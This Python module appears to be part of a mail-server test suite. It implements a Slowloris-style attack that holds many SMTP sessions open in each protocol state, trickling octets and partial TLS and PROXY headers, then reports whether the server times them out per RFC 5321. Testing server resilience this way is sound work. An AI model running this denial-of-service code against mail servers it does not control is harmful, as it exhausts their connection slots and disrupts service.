"""Slowloris: clients that hold a session in each of its states, silent or with an octet now and then, for as long as they are let."""

import time

from attacks.client import ready
from attacks.target import attempt

SLACK_SECONDS = 10
# Of a PROXY header, which is for balancers that are not strangers: nobody can change it.
HEADER_SECONDS = 30


class Slow:
    """A connection in some state, and what it lets trickle: an octet at each turn, or nothing."""

    def __init__(self, state, peer, trickle=b""):
        self.state, self.peer, self.trickle = state, peer, trickle
        self.at, self.ended_after, self.began = 0, None, time.monotonic()

    def turn(self):
        if self.trickle and not self.peer.raw(self.trickle[self.at:self.at + 1]):
            self.end()
        self.at = (self.at + 1) % max(1, len(self.trickle))

    def end(self):
        self.ended_after = time.monotonic() - self.began if self.ended_after is None else self.ended_after

    def look(self):
        """Reads what has come; the end of it is the end."""
        while self.ended_after is None and ready(self.peer.socket, 0):
            try:
                octets = self.peer.socket.recv(65536)
            except OSError:
                octets = b""
            if not octets:
                self.end()


def said(*lines):
    """Makes a session that has said these, and had its replies."""
    def make(target):
        peer = target.greeted()
        for line in lines:
            peer.need(line.format(helo=target.helo, sender=target.sender, rcpt=target.rcpt), 250, 251, 354, 220)
        return peer
    return make


def finished(target):
    """A session whose mail has been sent whole and whose reply is not waited for."""
    peer = target.mail()
    peer.raw(b"Subject: slow\r\n\r\ntext\r\n.\r\n")
    return peer


EHLO, MAIL, RCPT, DATA = "EHLO {helo}", "MAIL FROM:<{sender}>", "RCPT TO:<{rcpt}>", "DATA"
# (name, how to get there, what trickles)
STATES = [
    ("after connecting, silent", lambda target: target.connect(), b""),
    ("within EHLO", said(), b"EHLO client.example.com"),
    ("after EHLO, silent", said(EHLO), b""),
    ("within MAIL", said(EHLO), b"MAIL FROM:<me@example.com" + b"x" * 100),
    ("within RCPT", said(EHLO, MAIL), b"RCPT TO:<" + b"x" * 100),
    ("after RCPT, silent", said(EHLO, MAIL, RCPT), b""),
    ("in the text, silent", said(EHLO, MAIL, RCPT, DATA), b""),
    ("in the text, an octet at a time", said(EHLO, MAIL, RCPT, DATA), b"x: y\r\n"),
    ("in the text, dots at a time", said(EHLO, MAIL, RCPT, DATA), b"\r\n..x"),
    ("after the dot, silent", finished, b""),
]


def states(target):
    yield from STATES
    if target.proxy_port and not target.is_short:
        from attacks.own import BALANCER
        yield "before a PROXY header", lambda target: target.connect(target.proxy_port, BALANCER), b""
        yield "within a PROXY header", lambda target: target.connect(target.proxy_port, BALANCER), b"PROXY TCP4 192.0.2.1 192.0.2.2 1 "
    if target.offers_tls():
        yield "before the TLS handshake", said(EHLO, "STARTTLS"), b""
        yield "within the TLS handshake", said(EHLO, "STARTTLS"), b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 500


def begin(target, report):
    held = []
    for name, make, trickle in states(target):
        for _ in range(target.count(25, 5)):
            peer = attempt(report, make, target)
            if peer is not None:
                held.append(Slow(name, peer, trickle))
    return held


def limit_seconds(target):
    """After which our own server must have ended each of them; others are only watched for a while."""
    if target.server is None:
        return target.slow_seconds
    from attacks.own import IDLE_SECONDS, TEXT_SECONDS
    longest = max(IDLE_SECONDS, TEXT_SECONDS) if target.is_short else max(HEADER_SECONDS, TEXT_SECONDS)
    return longest + SLACK_SECONDS * target.patience


def watch(target, held):
    end = time.monotonic() + limit_seconds(target)
    while time.monotonic() < end and any(slow.ended_after is None for slow in held):
        for slow in held:
            if slow.ended_after is None:
                slow.turn()
                slow.look()
        time.sleep(0.3)


def tell(target, report, held):
    for name in dict.fromkeys(slow.state for slow in held):
        times = [slow.ended_after for slow in held if slow.state == name]
        ended = [seconds for seconds in times if seconds is not None]
        if len(ended) < len(times) and target.server is not None:
            report.found("attack", f"{name}: {len(times) - len(ended)} of {len(times)} sessions are still held after "
                         f"{limit_seconds(target):.0f} s", "A few clients can hold every place", "RFC 5321 4.5.3.2")
        elif target.server is None:
            report.note(f"{name}: {len(ended)} of {len(times)} ended by the server within {limit_seconds(target):.0f} s")
        else:
            report.note(f"{name}: ended after {min(ended):.1f} to {max(ended):.1f} s")


def attack(target, report):
    held = begin(target, report)
    try:
        watch(target, held)
        tell(target, report, held)
    finally:
        for slow in held:
            slow.peer.close()
